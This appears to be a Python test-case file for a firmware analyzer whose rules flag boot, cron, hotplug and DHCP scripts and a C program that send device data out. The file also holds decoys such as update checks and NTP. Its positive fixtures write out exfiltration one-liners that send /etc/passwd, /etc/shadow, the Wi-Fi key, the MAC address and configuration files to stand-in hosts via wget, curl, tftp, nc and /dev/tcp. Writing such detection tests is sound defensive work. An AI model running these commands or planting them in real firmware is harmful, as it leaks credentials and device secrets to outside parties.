"""FP-EXFIL-001/002: boot, cron and hotplug jobs and programs sending device data out
(firmproof/analyzers/exfil.py); downloads, update checks, NTP and LAN destinations are decoys."""

from __future__ import annotations

from .case import Case, hit, miss

INITTAB = "::sysinit:/etc/init.d/rcS\n"

# name -> (files, path of the evidence, evidence bytes, host)
POSITIVES: dict[str, tuple[dict[str, str | bytes], str, bytes, str]] = {
    "wget-mac-at-boot": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
                            "wget -q \"http://203.0.113.9/r.php?mac=$MAC\" -O /dev/null &\n"},
        "/etc/init.d/rcS", b'wget -q "http://203.0.113.9/r.php?mac=$MAC" -O /dev/null &', "203.0.113.9"),
    "passwd-to-nc-from-cron": (
        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\ncrond\n",
         "/etc/crontabs/root": "*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999\n"},
        "/etc/crontabs/root", b"*/30 * * * * cat /etc/passwd | nc collect.bad-cloud.cn 9999",
        "collect.bad-cloud.cn"),
    "curl-config-from-hotplug": (
        {"/etc/hotplug.d/iface/99-report":
         "#!/bin/sh\n[ \"$ACTION\" = ifup ] || exit 0\n"
         "curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload\n"},
        "/etc/hotplug.d/iface/99-report",
        b"curl -s -F cfg=@/etc/config/network https://198.51.100.20/upload", "198.51.100.20"),
    "tftp-shadow": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\ntftp -p -l /etc/shadow -r s.txt 198.51.100.7\n"},
        "/etc/init.d/rcS", b"tftp -p -l /etc/shadow -r s.txt 198.51.100.7", "198.51.100.7"),
    "uploaded-file-the-job-wrote": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\nifconfig -a > /tmp/.n\ncurl -s -F n=@/tmp/.n http://u.example.org/u\n"},
        "/etc/init.d/rcS", b"curl -s -F n=@/tmp/.n http://u.example.org/u", "u.example.org"),
    "tftp-of-a-file-from-a-variable": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\nK=`nvram get wl0_wpa_psk`\necho \"$K\" | tee /tmp/k\n"
                            "tftp -p -l /tmp/k -r k 198.51.100.200\n"},
        "/etc/init.d/rcS", b"tftp -p -l /tmp/k -r k 198.51.100.200", "198.51.100.200"),
    "host-in-sourced-config": (
        {"/etc/inittab": INITTAB, "/etc/report.conf": "SERVER=report.example.net\n",
         "/etc/init.d/rcS": "#!/bin/sh\n. /etc/report.conf\nSN=$(nvram get serial_no)\n"
                            "wget -q -O- \"http://${SERVER}/r?sn=$SN\"\n"},
        "/etc/init.d/rcS", b'wget -q -O- "http://${SERVER}/r?sn=$SN"', "report.example.net"),
    "data-in-the-url-path": (
        {"/etc/inittab": INITTAB,
         "/etc/init.d/rcS": "#!/bin/sh\nSN=$(nvram get serial_no)\nwget -q http://b.example.com/$SN\n"},
        "/etc/init.d/rcS", b"wget -q http://b.example.com/$SN", "b.example.com"),
    "udhcpc-user-hook": (
        {"/etc/udhcpc.user": "#!/bin/sh\n[ \"$1\" = bound ] || exit 0\n"
                             "MAC=$(cat /sys/class/net/eth0/address)\necho $MAC | nc 203.0.113.4 81\n"},
        "/etc/udhcpc.user", b"echo $MAC | nc 203.0.113.4 81", "203.0.113.4"),
    "nvram-to-dev-tcp": (
        {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnvram show > /dev/tcp/203.0.113.50/80\n"},
        "/etc/init.d/rcS", b"nvram show > /dev/tcp/203.0.113.50/80", "203.0.113.50"),
}

DECOYS: dict[str, dict[str, str | bytes]] = {
    "firmware-download": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                          "#!/bin/sh\nwget http://update.vendor-cloud.com/fw/latest.bin -O /tmp/fw.bin\n"},
    "update-check": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                     "#!/bin/sh\nMODEL=RT-N12\ncurl -s \"https://update.vendor-cloud.com/check?model=$MODEL&ver=1.0\"\n"},
    "ntp": {"/etc/inittab": INITTAB,
            "/etc/init.d/rcS": "#!/bin/sh\nntpclient -s -h pool.ntp.org\nntpd -p 0.pool.ntp.org\n"},
    "nc-listener": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nnc -l -p 9000 > /tmp/upload\n"},
    "config-to-variable-host": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                                "#!/bin/sh\nSERVER=$(nvram get backup_server)\n"
                                "tftp -p -l /etc/config/network $SERVER\n"},
    "host-from-nvram": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                        "#!/bin/sh\nSRV=$(nvram get update_server)\nMAC=$(cat /sys/class/net/eth0/address)\n"
                        "wget -q \"http://$SRV/r?mac=$MAC\"\n"},
    "mac-in-local-file-name": {"/etc/inittab": INITTAB, "/etc/init.d/rcS":
                               "#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\n"
                               "wget -q -O /tmp/fw-$MAC.bin http://203.0.113.8/fw.bin\n"},
    "not-run-at-boot": {"/etc/inittab": INITTAB, "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
                        "/usr/share/doc/example.sh": "cat /etc/passwd | nc 203.0.113.9 80\n"},
}


PROGRAMS = {
    "beacon": (r"""
#include <stdio.h>
#include <stdlib.h>
int main(void) {
    char mac[32] = "", cmd[256];
    FILE *f = fopen("/sys/class/net/eth0/address", "r");
    if (f) { fgets(mac, sizeof mac, f); fclose(f); }
    snprintf(cmd, sizeof cmd, "wget -q -O /dev/null 'http://collect.bad-cloud.cn/r.php?mac=%s'", mac);
    return system(cmd);
}""", b"wget -q -O /dev/null 'http://collect.bad-cloud.cn/r.php?mac=%s'"),
}

DECOY_PROGRAMS = {
    "ntp-client": r"""
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
int main(void) {
    unsigned char pkt[48] = {0x1b};
    struct addrinfo *ai;
    if (getaddrinfo("pool.ntp.org", "123", 0, &ai) != 0) return 1;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(s, pkt, sizeof pkt, 0, ai->ai_addr, ai->ai_addrlen);
    return recv(s, pkt, sizeof pkt, 0) < 0;
}""",
    "update-check": r"""
#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    char cmd[256];
    snprintf(cmd, sizeof cmd, "wget -q -O /tmp/fw.bin 'http://update.vendor-cloud.com/check?model=%s&ver=%s'",
             argc > 1 ? argv[1] : "RT-N12", "1.0");
    return system(cmd);
}""",
}


def executable(files: dict[str, str | bytes]) -> dict[str, dict[str, int]]:
    return {"modes": {path: 0o755 for path in files}}


def job(name: str) -> Case:
    files, path, literal, host = POSITIVES[name]
    return hit("FP-EXFIL-001", name, files, path, literal, details={"host": host}, **executable(files))


def lan(host: str) -> Case:
    files: dict[str, str | bytes] = {"/etc/inittab": INITTAB,
                                     "/etc/init.d/rcS": f"#!/bin/sh\ncat /etc/passwd | nc {host} 9000\n"}
    return miss("FP-EXFIL-001", f"lan-or-loopback-{host}", files, silent=True, **executable(files))


def program(source: str):
    return lambda kit: {"/usr/bin/cloudd": kit.program(source)}


CASES = [
    *(job(name) for name in sorted(POSITIVES)),
    *(miss("FP-EXFIL-001", name, files, silent=True, **executable(files))
      for name, files in sorted(DECOYS.items())),
    # a LAN address reaches whatever host each owner's network has there: no collector
    *(lan(host) for host in ("192.168.1.10", "10.1.2.3", "127.0.0.1", "169.254.1.1", "printer.lan")),

    hit("FP-EXFIL-002", "program-beaconing-the-mac", program(PROGRAMS["beacon"][0]), "/usr/bin/cloudd",
        PROGRAMS["beacon"][1], details={"host": "collect.bad-cloud.cn"}),
    *(miss("FP-EXFIL-002", name, program(source), silent=True)
      for name, source in sorted(DECOY_PROGRAMS.items())),
]
